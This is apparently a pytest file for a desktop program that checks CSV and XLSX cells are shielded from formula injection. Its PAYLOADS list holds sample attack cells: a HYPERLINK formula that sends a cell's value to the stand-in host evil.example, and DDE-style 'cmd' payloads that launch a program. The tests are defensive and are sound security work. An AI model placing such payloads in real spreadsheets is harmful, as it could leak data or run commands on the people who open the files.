"""Cells of the CSV and XLSX files the program writes: text is never read as a formula (issue 14.2)."""

from __future__ import annotations

import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from desktop.models.spreadsheet_cells import append_xlsx_row, restore_text, safe_cell, safe_row, safe_text

HYPERLINK = '=HYPERLINK("http://evil.example/"&E2,"查看")'
PAYLOADS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝HYPERLINK(\"http://evil.example/\")",  # full-width: some spreadsheets fold it on input
]
HARMLESS = ["张三", "刘䶮𬘡", "阿卜杜拉·买买提", "Mary-Jane O'Neil", "", "62220202000000000001", "2026-11-27",
            "'quoted already", "a=b", "{\"after\": \"-1\"}"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_apostrophe(payload: str) -> None:
    """issue 14.2: OWASP CSV injection — = + - @ tab CR (and LF, NUL) first make a formula; ' makes it text."""
    assert safe_text(payload) == "'" + payload
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    """issue 14.2: names (with hyphens and apostrophes), accounts and dates are not touched."""
    assert safe_text(text) == text


@pytest.mark.parametrize("payload", PAYLOADS + HARMLESS)
def test_neutralising_twice_changes_nothing_and_reading_undoes_it(payload: str) -> None:
    """issue 14.2: the readers of the program's own files (bank result, a fixed rejects file) get the value back."""
    once = safe_text(payload)
    assert safe_text(once) == once
    assert restore_text(once) == payload or payload.startswith("'")


@pytest.mark.parametrize(("value", "numeric", "expected"), [
    (-1500, False, -1500),  # an int is a number whatever the column: money and counts stay integers
    (1500, False, 1500),
    (Decimal("-3.5"), False, Decimal("-3.5")),
    (None, False, None),
    (True, False, True),
    ("-5", True, "-5"),  # a genuine negative number in a numeric column stays a number
    ("+40", True, "+40"),
    ("-5", False, "'-5"),  # the same text in a text column (a phone, a name) is text
    ("-1+1", True, "'-1+1"),  # not a number: a formula, even in a numeric column
    ("-5e3", True, "'-5e3"),
])
def test_numbers_are_decided_per_column(value: Any, numeric: bool, expected: Any) -> None:
    """issue 14.2: negative amounts stay numeric where the column is numeric."""
    result = safe_cell(value, numeric=numeric)
    assert result == expected and type(result) is type(expected)


def test_a_row_is_neutralised_cell_by_cell_with_its_numeric_columns() -> None:
    """issue 14.2"""
    assert safe_row(["-5", "-5", 1500, HYPERLINK], numeric={1}) == ["'-5", "-5", 1500, "'" + HYPERLINK]


def test_xlsx_text_is_written_as_strings_never_formulas() -> None:
    """issue 14.2: openpyxl makes a str starting with "=" a formula and "#N/A" an error unless told otherwise."""
    book = Workbook()
    sheet = book.active
    append_xlsx_row(sheet, ["name", "amount_yuan", "code"])
    append_xlsx_row(sheet, [HYPERLINK, -1500, "#N/A"])
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    name, amount, code = read[2]
    assert (name.value, name.data_type) == ("'" + HYPERLINK, "s")
    assert (amount.value, amount.data_type) == (-1500, "n")
    assert (code.value, code.data_type) == ("#N/A", "s")
    assert not any(str(c.value).startswith("=") for row in read.iter_rows() for c in row)


def test_every_module_that_writes_a_spreadsheet_goes_through_safe_cells() -> None:
    """issue 14.2: a new CSV or XLSX writer in the program must use this module (bench/ writes only the
    benchmark's own synthetic registry files and is left out)."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(\)")
    unsafe = sorted(
        str(path.relative_to(root)) for folder in ("desktop", "central") for path in (root / folder).rglob("*.py")
        if path.name != "spreadsheet_cells.py"  # the writers themselves (csv_bytes, new_sheet) live there
        and writers.search(source := path.read_text(encoding="utf-8"))
        and "desktop.models.spreadsheet_cells import" not in source
    )
    assert unsafe == []
